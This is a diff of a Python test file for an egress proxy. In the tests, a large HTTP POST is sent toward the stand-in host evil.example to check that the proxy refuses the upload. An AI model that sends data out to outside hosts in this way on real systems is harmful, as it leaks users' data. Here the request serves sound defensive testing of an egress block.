@@ -11,6 +11,7 @@ from pathlib import Path
 
 import pytest
 
+from nextfire.adapters.scripts import egress_proxy
 from nextfire.adapters.scripts.bounded_server import (
     GUARANTEED_CONNECTIONS,
     MAX_CONNECTIONS_PER_RUN,
@@ -28,8 +29,11 @@ def test_large_upload_to_a_refused_host_gets_the_answer(proxy: Proxy) -> None:
     assert b"evil.example:80 is refused" in proxy.ask(head + b"x" * 300_000)
 
 
-def test_upload_that_goes_on_after_the_answer_is_received(proxy: Proxy) -> None:
+def test_upload_that_goes_on_after_the_answer_is_received(
+    proxy: Proxy, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """Most clients send all of a body before they read the answer."""
+    monkeypatch.setattr(egress_proxy, "_RESPONSE_TIMEOUT", PATIENCE)
     with proxy.open() as client:
         client.sendall(b"POST http://evil.example/ HTTP/1.1\r\nContent-Length: 40000\r\n\r\n")
         assert b"evil.example:80 is refused" in read_all(client)
